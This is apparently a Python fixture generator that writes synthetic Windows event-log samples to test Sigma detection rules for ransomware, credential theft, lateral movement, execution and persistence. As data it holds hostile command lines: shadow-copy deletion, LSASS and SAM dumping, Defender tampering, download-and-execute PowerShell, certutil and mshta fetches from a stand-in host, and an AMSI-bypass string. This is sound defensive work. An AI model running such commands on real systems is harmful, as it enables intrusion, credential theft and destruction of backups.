"""Writes the samples of the Windows rules into `rules/cases/sigma`: records as shippers write them in JSON lines, all made up.

python tests/cases/sigma/windows.py
"""

# ruff: noqa: E501 - tables read better in one line a row
from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from atttcli.rulepack.samples import pack

OUT = Path(__file__).resolve().parents[3] / "rules" / "cases" / "sigma"
START = datetime(2026, 11, 16, 1, 0, 0, tzinfo=UTC)
SYSTEM = "C:\\Windows\\System32\\"
POWERSHELL = SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe"
EXPLORER = "C:\\Windows\\explorer.exe"
ATTACKER, INSIDE = "203.0.113.45", "10.20.3.15"
Record = dict[str, Any]


def record(
    channel: str, provider: str, number: int, data: Record, seconds: int = 0, host: str = "MAY-01.backan.example"
) -> Record:
    when = f"{START + timedelta(seconds=seconds):%Y-%m-%dT%H:%M:%S}.000Z"
    return {
        "SystemTime": when,
        "Channel": channel,
        "Provider_Name": provider,
        "EventID": number,
        "Computer": host,
        **data,
    }


def sysmon(number: int, seconds: int = 0, **data: Any) -> Record:
    return record("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", number, data, seconds)


def security(number: int, seconds: int = 0, **data: Any) -> Record:
    return record("Security", "Microsoft-Windows-Security-Auditing", number, data, seconds)


def started(image: str, command: str, parent: str = EXPLORER, seconds: int = 0, **more: Any) -> Record:
    return sysmon(1, seconds, Image=image, CommandLine=command, ParentImage=parent, User="BACKAN\\canbo01", **more)


def ran(name: str, command: str, parent: str = SYSTEM + "cmd.exe", seconds: int = 0, **more: Any) -> Record:
    return started(SYSTEM + name, command, parent, seconds, **more)


def service(name: str, path: str) -> Record:
    return record(
        "System",
        "Service Control Manager",
        7045,
        {"ServiceName": name, "ImagePath": path, "AccountName": "LocalSystem"},
    )


def defender(number: int) -> Record:
    return record(
        "Microsoft-Windows-Windows Defender/Operational",
        "Microsoft-Windows-Windows Defender",
        number,
        {"Product Name": "Microsoft Defender"},
    )


def logon(number: int, ip: str, kind: int = 3, user: str = "canbo01", seconds: int = 0, **more: Any) -> Record:
    return security(number, seconds, TargetUserName=user, LogonType=kind, IpAddress=ip, SubjectUserName="-", **more)


def case(
    rule: int, why: str, positive: list[list[Record]], negative: list[list[Record]], engine: str = "sigma"
) -> None:
    folder = OUT / f"attt-win-{rule:04d}"
    folder.mkdir(parents=True, exist_ok=True)
    listed = ""
    for kind, samples in (("positive", positive), ("negative", negative)):
        listed += f"{kind}:\n"
        for number, records in enumerate(samples, 1):
            name = f"{kind}-{number}.jsonl.b64"
            text = "".join(json.dumps(one, ensure_ascii=False) + "\n" for one in records)
            (folder / name).write_text(pack(text.encode()), encoding="utf-8")
            listed += f"  - {name}\n"
    head = f'why: "{why}"\nengine: {engine}\nrule: attt-win-{rule:04d}\n'
    (folder / "case.yaml").write_text(head + listed, encoding="utf-8")


def alone(rule: int, why: str, bad: list[Record], good: list[Record]) -> None:
    """Each bad record by itself; the good ones are neighbours that must stay quiet."""
    case(rule, why, [[one] for one in bad], [good])


def accounts() -> None:
    alone(10, "Into Administrators; into a group that rules nothing is none.",
          [security(4732, TargetUserName="Administrators", MemberSid="S-1-5-21-1-2-3-1105", SubjectUserName="quantri"),
           security(4728, TargetUserName="Domain Admins", MemberSid="S-1-5-21-1-2-3-1105", SubjectUserName="quantri"),
           security(4732, TargetUserName="Quản trị viên", MemberSid="S-1-5-21-1-2-3-1105", SubjectUserName="MAY-01$"),
           security(4732, TargetUserName="Administratoren", TargetSid="S-1-5-32-544", MemberSid="S-1-5-21-1-2-3-1105")],
          [security(4732, TargetUserName="Administrators", TargetSid="S-1-5-32-544", MemberSid="S-1-5-21-1-2-3-512", SubjectUserName="MAY-09$"), security(4728, TargetUserName="To ky thuat", TargetSid="S-1-5-21-1-2-3-1512"), security(4732, TargetUserName="May in phong VT", SubjectUserName="quantri"), security(4733, TargetUserName="Administrators", SubjectUserName="quantri")])  # fmt: skip
    alone(12, "An account with a dollar sign is made, or gets it later; a machine that joins or is renamed is none.",
          [security(4720, TargetUserName="hotro$", SubjectUserName="MAY-01$"), security(4781, OldTargetUserName="hotro", NewTargetUserName="hotro$", SubjectUserName="canbo01")],
          [security(4720, TargetUserName="canbo77", SubjectUserName="quantri"), security(4741, TargetUserName="MAY-02$", SubjectUserName="DC01$"), security(4781, OldTargetUserName="MAY-02$", NewTargetUserName="MAY-03$", SubjectUserName="quantri")])  # fmt: skip
    alone(13, "The guest is let in; a colleague's account that was locked away comes back.",
          [security(4722, TargetUserName="Guest", TargetSid="S-1-5-21-1-2-3-501", SubjectUserName="canbo01")],
          [security(4722, TargetUserName="canbo05", TargetSid="S-1-5-21-1-2-3-1501", SubjectUserName="quantri")])  # fmt: skip
    cleared = record("Security", "Microsoft-Windows-Eventlog", 1102, {"SubjectUserName": "canbo01"})
    alone(14, "The log is emptied; a log that is full is not.", [cleared],
          [record("Security", "Microsoft-Windows-Eventlog", 1104, {}), record("System", "EventLog", 1102, {})])  # fmt: skip
    alone(15, "Another log is emptied; another provider's number 104 is something else.",
          [record("System", "Microsoft-Windows-Eventlog", 104, {"SubjectUserName": "canbo01", "Channel": "System", "BackupPath": ""})],
          [record("System", "Microsoft-Windows-Kernel-Power", 104, {})])  # fmt: skip
    alone(16, "Success auditing is taken away; adding it is none.",
          [security(4719, SubcategoryGuid="{0CCE9215-69AE-11D9-BED3-505054503030}", AuditPolicyChanges="%%8448, %%8450", SubjectUserName="canbo01")],
          [security(4719, SubcategoryGuid="{0CCE9215-69AE-11D9-BED3-505054503030}", AuditPolicyChanges="%%8449", SubjectUserName="DC01$")])  # fmt: skip


def ransomware() -> None:
    alone(20, "By each of the four ways; listing them and dropping the oldest to make room is none.",
          [ran("vssadmin.exe", "vssadmin.exe Delete Shadows /All /Quiet"), ran("vssadmin.exe", "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB"),
           ran("wbem\\WMIC.exe", "wmic shadowcopy delete"), started(POWERSHELL, "powershell Get-WmiObject Win32_ShadowCopy | ForEach-Object {$_.Delete();}"),
           started("C:\\Temp\\v.exe", '"C:\\Temp\\v.exe" "DELETE"  shadows /ALL /quiet & rem /oldest'), ran("cmd.exe", "cmd /c powershell gcim Win32_ShadowCopy | Remove-CimInstance")],
          [ran("vssadmin.exe", "vssadmin list shadows"), ran("vssadmin.exe", "vssadmin delete shadows /for=D: /oldest"),
           started(POWERSHELL, "powershell Get-WmiObject Win32_ShadowCopy | Format-List")])  # fmt: skip
    alone(21, "Recovery off; reading the settings is none.",
          [ran("bcdedit.exe", "bcdedit /set {default} recoveryenabled No"), ran("bcdedit.exe", "bcdedit /set {default} bootstatuspolicy IgnoreAllFailures"), ran("reagentc.exe", "reagentc /disable"), started("C:\\Temp\\b.exe", 'b.exe /set {default}  "recoveryenabled"  "off"')],
          [ran("bcdedit.exe", "bcdedit /set {default} recoveryenabled Yes"), ran("bcdedit.exe", "bcdedit /enum"), ran("reagentc.exe", "reagentc /info")])  # fmt: skip
    alone(22, "The catalogue is deleted; a backup is made.", [ran("wbadmin.exe", "wbadmin DELETE CATALOG -quiet"), ran("wbadmin.exe", "wbadmin delete systemstatebackup -keepversions:0"), started("C:\\Temp\\w.exe", "w.exe  delete   catalog -quiet", OriginalFileName="WBADMIN.EXE")],
          [ran("wbadmin.exe", "wbadmin start backup -backupTarget:E: -include:C:")])  # fmt: skip
    alone(23, "Emptied; exported is none.", [ran("wevtutil.exe", "wevtutil cl System"), ran("wevtutil.exe", "wevtutil.exe clear-log Security"), started(POWERSHELL, "powershell -c Clear-EventLog -LogName Application")],
          [ran("wevtutil.exe", "wevtutil epl System D:\\nhat-ky\\cl.evtx"), ran("wevtutil.exe", "wevtutil el")])  # fmt: skip
    alone(
        24,
        "Real-time protection is off; an update is none.",
        [defender(5001), defender(5012)],
        [defender(2000), defender(5007)],
    )
    alone(25, "An exclusion, a switch, the service; asking for the settings is none.",
          [started(POWERSHELL, "powershell Add-MpPreference -ExclusionPath C:\\Users\\Public"), started(POWERSHELL, "powershell Set-MpPreference -DisableRealtimeMonitoring $true"), ran("sc.exe", "sc stop WinDefend")],
          [started(POWERSHELL, "powershell Get-MpPreference | Select Exclusion*"), started(POWERSHELL, "powershell Set-MpPreference -DisableRealtimeMonitoring $false"), ran("sc.exe", "sc query WinDefend")])  # fmt: skip
    names = (
        "MSSQLSERVER",
        "SQLBrowser",
        "VeeamBackupSvc",
        "MySQL80",
        "postgresql",
        "W3SVC",
        "Spooler",
        "vss",
        "BackupExec",
    )
    case(27, "Nine services in a minute; one of them stopped nine times, or nine in an hour, is none.",
         [[ran("net.exe", f"net stop {name} /y", seconds=5 * n) for n, name in enumerate(names)]],
         [[ran("net.exe", "net stop Spooler", seconds=5 * n) for n in range(9)], [ran("net.exe", f"net stop {name}", seconds=400 * n) for n, name in enumerate(names)]], "correlation")  # fmt: skip
    notes = [
        sysmon(
            11, n, Image="C:\\Users\\Public\\x.exe", TargetFilename=f"D:\\VanBan\\Phong{n}\\HOW_TO_RESTORE_FILES.txt"
        )
        for n in range(12)
    ]
    reads = [
        sysmon(11, n, Image=SYSTEM + "msiexec.exe", TargetFilename=f"C:\\Program Files\\Phan mem\\{n}\\readme.txt")
        for n in range(12)
    ]
    case(
        29,
        "Twelve folders within a minute; read-me files of an installer, and three notes, are none.",
        [notes],
        [reads, notes[:3]],
        "correlation",
    )


def credentials() -> None:
    alone(30, "A program of the user opens it; the antivirus does so all day.",
          [sysmon(10, SourceImage="C:\\Users\\canbo01\\Downloads\\mk.exe", TargetImage=SYSTEM + "lsass.exe", GrantedAccess="0x1010"),
           sysmon(10, SourceImage=SYSTEM + "rundll32.exe", TargetImage=SYSTEM + "lsass.exe", GrantedAccess="0x1FFFFF"),
           sysmon(10, SourceImage="C:\\Program Files\\Phan mem\\pm.exe", TargetImage=SYSTEM + "lsass.exe", GrantedAccess="0x1410", CallTrace="C:\\Windows\\SYSTEM32\\dbgcore.DLL+6cee")],
          [sysmon(10, SourceImage="C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe", TargetImage=SYSTEM + "lsass.exe", GrantedAccess="0x1410"),
           sysmon(10, SourceImage=SYSTEM + "WerFault.exe", TargetImage=SYSTEM + "lsass.exe", GrantedAccess="0x1fffff", CallTrace="C:\\Windows\\System32\\dbgcore.dll+1"),
           sysmon(10, SourceImage="C:\\Users\\canbo01\\Downloads\\mk.exe", TargetImage=SYSTEM + "lsass.exe", GrantedAccess="0x1000")])  # fmt: skip
    alone(31, "Two ways to write it out; a dump of an office program is support.",
          [ran("rundll32.exe", "rundll32 C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.bin full"), started("D:\\procdump64.exe", "procdump64 -accepteula -ma lsass.exe l.dmp"), ran("rundll32.exe", "rundll32 comsvcs.dll #+24 624 l.bin full")],
          [started("D:\\procdump64.exe", "procdump64 -ma winword.exe w.dmp"), ran("rundll32.exe", "rundll32 shell32.dll,Control_RunDLL")])  # fmt: skip
    alone(32, "Hives and the directory's file; a key of a program is none.",
          [ran("reg.exe", "reg save HKLM\\SAM C:\\Temp\\s.hiv"), ran("ntdsutil.exe", 'ntdsutil "ac i ntds" "ifm" "create full C:\\Temp\\x" q q'), ran("cmd.exe", "cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit C:\\Temp"),
           started("C:\\Temp\\r.exe", 'r.exe  save "hklm\\security" s.hiv', OriginalFileName="reg.exe"), ran("esentutl.exe", "esentutl /y /vss C:\\Windows\\NTDS\\ntds.dit /d C:\\Temp\\n.dit")],
          [ran("reg.exe", "reg save HKCU\\Software\\Ung-dung C:\\Temp\\u.reg"), ran("reg.exe", "reg query HKLM\\SYSTEM\\Select"), ran("reg.exe", "reg export HKLM\\SYSTEM\\CurrentControlSet\\Services\\Phan-mem D:\\sl.reg")])  # fmt: skip
    rights = "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}"
    alone(33, "A person asks for replication; a controller does so always.", [security(4662, SubjectUserName="canbo01", Properties=rights)],
          [security(4662, SubjectUserName="DC02$", Properties=rights), security(4662, SubjectUserName="MSOL_1a2b", Properties=rights), security(4662, SubjectUserName="canbo01", Properties="%%7685")])  # fmt: skip

    def ticket(n: int, encryption: str = "0x17", name: str = "") -> Record:
        return security(
            4769,
            20 * n,
            TargetUserName="canbo01@BACKAN.EXAMPLE",
            ServiceName=name or f"svc-{n}",
            TicketEncryptionType=encryption,
            Status="0x0",
            IpAddress=f"::ffff:{INSIDE}",
        )

    case(35, "Six services with RC4; with AES, or the same service again, is none.", [[ticket(n) for n in range(6)]],
         [[ticket(n, "0x12") for n in range(6)], [ticket(n, name="svc-in") for n in range(6)]], "correlation")  # fmt: skip
    failures = [logon(4625, ATTACKER, seconds=10 * n, SubStatus="0xc000006a") for n in range(16)]
    case(38, "Sixteen in three minutes; spread over a day, or at the keyboard, is none.", [failures],
         [[logon(4625, ATTACKER, seconds=3600 * n) for n in range(16)], [logon(4625, "-", 2, seconds=n) for n in range(20)]], "correlation")  # fmt: skip
    case(39, "In after the guessing from the same address; another one that enters is none.", [[*failures, logon(4624, ATTACKER, seconds=300)]],
         [[*failures, logon(4624, INSIDE, seconds=300)], [logon(4624, ATTACKER), *failures]], "correlation")  # fmt: skip


def lateral() -> None:
    alone(40, "A shell as a service; a driver of a printer is none.", [service("BTOBTO", "%COMSPEC% /C echo whoami ^> \\\\127.0.0.1\\C$\\__output"), service("upd", "C:\\Windows\\Temp\\u.exe"), security(4697, ServiceName="x", ServiceFileName='cmd.exe  /Q /c "whoami"'), service("y", "\\\\10.20.3.15\\dulieu\\y.exe")],
          [service("WinDefend", '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe"'), service("drv", "\\??\\C:\\Windows\\system32\\drivers\\may-in.sys"), service("Spooler2", "C:\\Program Files\\May in\\spool.exe"), service("vmtools", '"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe"')])  # fmt: skip
    alone(41, "By name and by file; a service with another name is none.", [service("PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"), service("abcd", "C:\\Windows\\PSEXESVC.exe")],
          [service("PSync", "C:\\Program Files\\PSync\\ps.exe")])  # fmt: skip
    wmi = SYSTEM + "wbem\\WmiPrvSE.exe"
    alone(42, "WMI starts a shell; WMI starts the antivirus.", [ran("cmd.exe", "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1", wmi), security(4688, NewProcessName=SYSTEM + "cmd.exe", CommandLine="cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\C$\\Windows\\Temp\\a 2>&1")],
          [started("C:\\Program Files\\Kaspersky\\avp.exe", "avp.exe scan", wmi), ran("cmd.exe", "cmd.exe /c dir", EXPLORER)])  # fmt: skip
    alone(43, "With the name of another machine; on the machine itself it is none.", [ran("schtasks.exe", "schtasks /create /s MAY-09 /tn cap-nhat /tr C:\\Temp\\a.exe /sc once /st 01:00"), ran("schtasks.exe", "schtasks.exe -S MAY-09 -run -tn cap-nhat")],
          [ran("schtasks.exe", "schtasks /create /sc daily /tn sao-luu /tr D:\\sl.cmd"), ran("schtasks.exe", "schtasks /query /s MAY-09"), ran("schtasks.exe", "schtasks /create /s localhost /tn sao-luu /tr D:\\sl.cmd /sc daily")])  # fmt: skip
    alone(
        44,
        "From the Internet; from the office network, or another kind of logon, is none.",
        [logon(4624, ATTACKER, 10)],
        [logon(4624, INSIDE, 10), logon(4624, ATTACKER, 3), logon(4624, "-", 10)],
    )
    stolen = security(
        4624,
        TargetUserName="quantri",
        SubjectUserName="canbo01",
        LogonType=9,
        LogonProcessName="seclogo",
        AuthenticationPackageName="Negotiate",
        IpAddress="::1",
    )
    alone(
        45,
        "New credentials through seclogo; a service that does so is a machine account.",
        [stolen],
        [stolen | {"LogonType": 2}, stolen | {"SubjectUserName": "MAY-01$"}],
    )
    alone(46, "A remote support tool; the browser is none.", [started("C:\\Users\\canbo01\\Downloads\\AnyDesk.exe", "AnyDesk.exe"), started("C:\\Temp\\ngrok.exe", "ngrok tcp 3389"), started("C:\\Temp\\svc.exe", "svc.exe --get-id", Product="RustDesk")],
          [started("C:\\Program Files\\Trinh duyet\\td.exe", "td.exe https://anydesk.example/")])  # fmt: skip


def execution() -> None:
    packed = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA="
    alone(50, "Encoded, fetched, hidden; a script that has a name and a test of the shell are none.",
          [started(POWERSHELL, f"powershell -nop -enc {packed}"), started(POWERSHELL, "powershell (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"), started(POWERSHELL, "powershell -w hidden -c iwr http://203.0.113.9/a -OutFile b"),
           started("C:\\Temp\\p.exe", f"p.exe -WindowStyle h -NoP –EncodedCommand '{packed}'", OriginalFileName="PowerShell.EXE"), started(POWERSHELL, "powershell irm http://203.0.113.9/a | iex")],
          [started(POWERSHELL, "powershell -ExecutionPolicy RemoteSigned -File D:\\sao-luu.ps1"), started(POWERSHELL, "powershell -enc ZGly"), ran("cmd.exe", "cmd /c echo FromBase64String")])  # fmt: skip

    def block(text: str) -> Record:
        return record(
            "Microsoft-Windows-PowerShell/Operational",
            "Microsoft-Windows-PowerShell",
            4104,
            {"ScriptBlockText": text, "MessageNumber": 1, "MessageTotal": 1},
        )

    alone(51, "From the network, into memory, past the antivirus; a download to a file is none.",
          [block("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"), block("iwr -UseBasicParsing http://203.0.113.9/a | IEX"), block("$a=VirtualAlloc 0 9; CreateThread 0 0 $a"), block("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')")],
          [block("Invoke-WebRequest https://backan.example/mau.docx -OutFile mau.docx"), block("Get-ChildItem D:\\ | Out-File ds.txt")])  # fmt: skip
    word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    alone(52, "Word starts a shell; Word starts its printer helper, a person starts a shell.", [ran("cmd.exe", "cmd /c certutil", word), started(POWERSHELL, "powershell -c x", word.replace("WINWORD", "EXCEL")), started("C:\\Users\\Public\\a.exe", "a.exe", "C:\\Program Files\\Common Files\\EQUATION\\EQNEDT32.EXE")],
          [ran("rundll32.exe", "rundll32 C:\\Windows\\System32\\davclnt.dll,DavSetCookie vanban.backan.example", word), ran("splwow64.exe", "splwow64 8192", word), ran("cmd.exe", "cmd", EXPLORER)])  # fmt: skip
    alone(53, "Fetched or decoded; a certificate that is looked at, and a list of jobs, are none.",
          [ran("certutil.exe", "certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe"), ran("certutil.exe", "certutil -decode a.txt a.exe"), ran("bitsadmin.exe", "bitsadmin /transfer j /download http://203.0.113.9/a a.exe"), started("C:\\Temp\\c.exe", "c.exe  http://203.0.113.9/a a.exe -f -split -urlcache", OriginalFileName="CertUtil.exe")],
          [ran("certutil.exe", "certutil -dump chung-thu.cer"), ran("bitsadmin.exe", "bitsadmin /list /allusers")])  # fmt: skip
    alone(54, "From the network or from an argument; a library of the machine and the province's own installer are none.",
          [ran("mshta.exe", "mshta http://203.0.113.9/a.hta"), ran("regsvr32.exe", "regsvr32 /s /n /u /i:http://203.0.113.9/a scrobj.dll"), ran("rundll32.exe", "rundll32 javascript:\\..\\mshtml,RunHTMLApplication"),
           ran("rundll32.exe", "rundll32 \\\\203.0.113.9@80\\a\\b.dll,Start"), ran("msiexec.exe", "msiexec /q /i http://203.0.113.9/a.msi?https://phanmem.backan.gov.vn/")],
          [ran("regsvr32.exe", "regsvr32 /s C:\\Windows\\System32\\vbscript.dll"), ran("msiexec.exe", "msiexec /i https://phanmem.backan.gov.vn/ky-so.msi /qn"), ran("rundll32.exe", "rundll32 url.dll,OpenURL https://trogiup.backan.example/")])  # fmt: skip
    alone(55, "The portal gives commands; the portal compiles a page.",
          [ran("cmd.exe", "cmd.exe /c whoami", SYSTEM + "inetsrv\\w3wp.exe"), ran("cmd.exe", "cmd.exe /c dir", "C:\\tomcat\\bin\\tomcat9.exe"), ran("whoami.exe", "whoami", "C:\\jdk\\bin\\java.exe", ParentCommandLine="java -Dcatalina.base=C:\\tomcat Bootstrap start"),
           ran("cmd.exe", 'cmd.exe /c "soffice --version & whoami"', "C:\\xampp\\php\\php-cgi.exe"), started("C:\\Windows\\Temp\\c.exe", "c.exe", SYSTEM + "inetsrv\\w3wp.exe", OriginalFileName="Cmd.Exe")],
          [started("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe", "csc.exe /t:library", SYSTEM + "inetsrv\\w3wp.exe"), ran("cmd.exe", 'cmd.exe /s /c "wkhtmltopdf.exe --quiet a.html b.pdf 2>&1"', "C:\\xampp\\php\\php-cgi.exe"), ran("cmd.exe", "cmd /c mvn", "C:\\jdk\\bin\\java.exe", ParentCommandLine="java -jar du-an.jar")])  # fmt: skip
    alone(56, "The database starts a shell; its own agent runs a job.", [ran("cmd.exe", 'cmd.exe /c "whoami"', "C:\\Program Files\\Microsoft SQL Server\\MSSQL\\Binn\\sqlservr.exe")],
          [ran("cmd.exe", "cmd.exe /c sao-luu.cmd", "C:\\Program Files\\Microsoft SQL Server\\MSSQL\\Binn\\SQLAGENT.EXE")])  # fmt: skip
    alone(57, "A pool's address or a miner's name; a build with many threads is none.", [started("C:\\ProgramData\\svc.exe", "svc.exe -o stratum+tcp://198.51.100.9:3333 -u x"), started("C:\\Temp\\xmrig.exe", "xmrig"), started("C:\\ProgramData\\w.exe", "w.exe -o 198.51.100.9:14444 -u 4x -p x")],
          [started("C:\\du-an\\make.exe", "make -j8 -o obj")])  # fmt: skip


def persistence() -> None:
    run = "HKU\\S-1-5-21-1-2-3-1105\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\"
    alone(60, "A place where anybody may write; known programs and Program Files are none.",
          [sysmon(13, TargetObject=run + "capnhat", Details="C:\\Users\\canbo01\\AppData\\Roaming\\cn.exe", EventType="SetValue"), sysmon(13, TargetObject=run + "x", Details="wscript.exe C:\\x.vbs", EventType="SetValue"), sysmon(13, TargetObject="HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\z", Details="C:\\ProgramData\\z.exe", EventType="SetValue")],
          [sysmon(13, TargetObject=run + "OneDrive", Details="C:\\Users\\canbo01\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe /background", EventType="SetValue"), sysmon(13, TargetObject=run + "go", Details="C:\\Program Files\\Bo go\\go.exe", EventType="SetValue")])  # fmt: skip

    def task(command: str, name: str = "\\CapNhat", user: str = "canbo01") -> Record:
        return security(
            4698,
            TaskName=name,
            SubjectUserName=user,
            TaskContent=f"<Task><Actions><Exec><Command>{command}</Command></Exec></Actions></Task>",
        )

    alone(61, "An interpreter or a user's folder; an updater in Program Files and Windows itself are none.", [task("powershell.exe"), task("C:\\Users\\canbo01\\AppData\\Roaming\\a.exe"), task("C:\\Users\\Public\\a.exe", "\\Microsoft\\Windows\\CapNhat", "MAY-01$"), task("cmd.exe</Command><Arguments>/c curl http://203.0.113.9/a -o a.bat</Arguments><Command>")],
          [task("C:\\Users\\canbo01\\AppData\\Local\\CocCoc\\Update\\CocCocUpdate.exe"), task("C:\\Program Files\\Trinh duyet\\update.exe"), task("C:\\Windows\\system32\\rundll32.exe", "\\Microsoft\\Windows\\Dich vu", "MAY-01$")])  # fmt: skip
    alone(62, "A command kept in WMI; a consumer that writes to the log is none.", [sysmon(20, Type="Command Line", Name="cn", Destination="C:\\Windows\\Temp\\a.exe", Operation="Created")],
          [sysmon(20, Type="Log To Event Log", Name="nk", Destination="x", Operation="Created")])  # fmt: skip
    options = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\"
    alone(63, "The magnifier becomes a shell; a developer's debugger for his own program is none.", [sysmon(13, TargetObject=options + "sethc.exe\\Debugger", Details="C:\\Windows\\System32\\cmd.exe", EventType="SetValue")],
          [sysmon(13, TargetObject=options + "du-an.exe\\Debugger", Details="vsjitdebugger.exe", EventType="SetValue")])  # fmt: skip


def sticks() -> None:
    alone(70, "A program in the root of the stick; a setup from a disc and a program deeper down are none.", [started("E:\\Anh lien hoan.exe", '"E:\\Anh lien hoan.exe"')],
          [started("D:\\setup.exe", "D:\\setup.exe"), started("D:\\Cong cu\\ky-so.exe", "ky-so.exe"), started("C:\\a.exe", "a.exe")])  # fmt: skip
    alone(71, "The shortcut opens the folder and the worm; a script on a file server is none.",
          [ran("cmd.exe", "cmd.exe /c start explorer VanBan & start wscript.exe xk.vbs", EXPLORER, CurrentDirectory="E:\\"), ran("rundll32.exe", "rundll32.exe desktop.dat,Start", EXPLORER, CurrentDirectory="F:\\")],
          [ran("cmd.exe", "cmd.exe /c dir", EXPLORER, CurrentDirectory="E:\\"), ran("wscript.exe", "wscript logon.vbs", EXPLORER, CurrentDirectory="C:\\")])  # fmt: skip
    alone(72, "In the root of a drive; in the folder of an image it is none.", [sysmon(11, Image="C:\\Users\\Public\\w.exe", TargetFilename="F:\\autorun.inf")],
          [sysmon(11, Image="C:\\Program Files\\Ghi dia\\ghi.exe", TargetFilename="D:\\Dia cai dat\\autorun.inf")])  # fmt: skip


def main() -> None:
    accounts()
    ransomware()
    credentials()
    lateral()
    execution()
    persistence()
    sticks()


if __name__ == "__main__":
    main()
